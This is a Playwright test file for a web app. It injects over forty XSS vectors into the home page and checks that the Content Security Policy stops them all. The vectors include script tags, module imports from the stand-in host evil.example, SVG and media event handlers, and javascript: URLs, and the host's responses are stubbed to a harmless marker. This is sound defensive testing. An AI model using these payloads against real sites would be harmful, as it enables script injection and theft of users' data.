import type { Page } from 'playwright/test';
import { expectHydrated } from '../../fixtures/pwa-page.ts';
import { expect, test } from '../../fixtures/test.ts';

const EVIL = 'https://evil.example';
const run = (n: number) => `(window.mark??parent.mark)(${n})`;
const data = (n: number) => `data:text/javascript,${run(n)}`;
const evil = (n: number) => `${EVIL}/${n}.js`;
const framed = (html: string) => `<iframe srcdoc='${html}'></iframe>`;

/** Ways to run a script, one per technique, as if they had passed the sanitiser. */
const VECTORS: readonly ((n: number) => string)[] = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `<script src="${data(n)}"></script>`,
  (n) => `<script src="${evil(n)}"></script>`,
  (n) => `<script src="//evil.example/${n}.js"></script>`,
  (n) => `<script async src="${evil(n)}"></script>`,
  (n) => `<script defer src="${evil(n)}"></script>`,
  (n) => `<script nonce="x">${run(n)}</script>`,
  (n) => `<script type="module">${run(n)}</script>`,
  (n) => `<script type="module" src="${data(n)}"></script>`,
  (n) => `<script type="module" src="${evil(n)}"></script>`,
  (n) => `<script type="module">import "${evil(n)}"</script>`,
  (n) => `<script type="module">import("${data(n)}")</script>`,
  ...[data, evil].flatMap((address) =>
    ['', ' crossorigin', ' as="script"', ' fetchpriority="high"'].map(
      (attributes) => (n: number) =>
        `<link rel="modulepreload" href="${address(n)}"${attributes}><script type="module" src="${address(n)}"></script>`,
    ),
  ),
  (n) =>
    `<link rel="preload" as="script" href="${evil(n)}"><script src="${evil(n)}" crossorigin></script>`,
  (n) => `<link rel="prefetch" href="${evil(n)}"><script src="${evil(n)}"></script>`,
  (n) =>
    `<script type="importmap">{"imports":{"x${n}":"${evil(n)}"}}</script><script type="module">import "x${n}"</script>`,
  (n) => `<svg><script>${run(n)}</script></svg>`,
  (n) => `<svg><script href="${evil(n)}"></script></svg>`,
  (n) => `<svg><script xlink:href="${data(n)}"></script></svg>`,
  (n) => `<svg onload="${run(n)}"></svg>`,
  (n) => `<svg><image href="x" onerror="${run(n)}"></image></svg>`,
  (n) => `<svg><animate onbegin="${run(n)}" attributeName="x" dur="1s"></animate></svg>`,
  (n) => `<svg><set onbegin="${run(n)}" attributeName="x" to="y"></set></svg>`,
  (n) => `<math><mtext><img src="x" onerror="${run(n)}"></mtext></math>`,
  (n) => `<img src="x" onerror="${run(n)}">`,
  (n) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run(n)}">`,
  (n) => `<picture><source srcset="x"><img src="x" onerror="${run(n)}"></picture>`,
  (n) => `<video src="x" onerror="${run(n)}"></video>`,
  (n) => `<audio src="x" onerror="${run(n)}"></audio>`,
  (n) => `<video><source src="x" onerror="${run(n)}"></video>`,
  (n) => `<video src="x" onloadstart="${run(n)}"></video>`,
  (n) => `<details open ontoggle="${run(n)}"><summary>x</summary></details>`,
  (n) => `<link rel="stylesheet" href="${EVIL}/${n}.css" onerror="${run(n)}">`,
  (n) => `<style onload="${run(n)}">x{}</style>`,
  (n) => `<marquee onstart="${run(n)}">x</marquee>`,
  (n) => `<div><template shadowrootmode="open"><script>${run(n)}</script></template></div>`,
  (n) => `<div><template shadowrootmode="open"><img src="x" onerror="${run(n)}"></template></div>`,
  (n) => `<iframe src="javascript:${run(n)}"></iframe>`,
  (n) => `<object data="javascript:${run(n)}"></object>`,
  (n) => framed(`<script>${run(n)}</script>`),
  (n) => framed(`<img src="x" onerror="${run(n)}">`),
  (n) => framed(`<script src="${evil(n)}"></script>`),
  (n) =>
    framed(
      `<link rel="modulepreload" href="${evil(n)}"><script type="module" src="${evil(n)}"></script>`,
    ),
  (n) => `<a class="press" href="javascript:${run(n)}">x</a>`,
  (n) => `<form action="javascript:${run(n)}"><button class="press">x</button></form>`,
  (n) => `<button class="press" onclick="${run(n)}">x</button>`,
];

/** Opens home with all vectors in the page. @returns the vectors that ran */
async function openWithVectors(page: Page, keepsPolicy: boolean): Promise<number[]> {
  await page.route(`${EVIL}/**`, (route) => {
    const n = /\/(\d+)\.js$/.exec(route.request().url())?.[1];
    return n === undefined
      ? route.abort()
      : route.fulfill({
          contentType: 'text/javascript',
          headers: { 'access-control-allow-origin': '*' },
          body: run(Number(n)),
        });
  });
  await page.route(
    (url) => url.pathname === '/',
    async (route) => {
      const response = await route.fetch();
      const { 'content-security-policy': policy = '', ...headers } = response.headers();
      const markup = VECTORS.map((vector, n) => vector(n)).join('\n');
      await route.fulfill({
        response,
        headers: keepsPolicy ? { ...headers, 'content-security-policy': policy } : headers,
        body: (await response.text()).replace('</body>', `${markup}</body>`),
      });
    },
  );
  await page.addInitScript(() => {
    const ran = new Set<number>();
    Object.assign(window, { ran, mark: (n: number) => ran.add(n) });
  });
  await page.goto('/');
  await page.waitForLoadState('load');
  await page.evaluate(() => {
    for (const each of document.querySelectorAll<HTMLElement>('.press')) each.click();
  });
  await page.waitForLoadState('networkidle');
  return page.evaluate(() => [...(window as unknown as { ran: Set<number> }).ran]);
}

test.use({ allowed: /./ });

test('S4 markup that passes the sanitiser runs no script', async ({ page }) => {
  expect(VECTORS.length).toBeGreaterThan(40);
  expect(await openWithVectors(page, true)).toEqual([]);
  await expectHydrated(page);
});

test('S4 the same markup runs without the policies', async ({ page }) => {
  expect((await openWithVectors(page, false)).length).toBeGreaterThan(35);
});
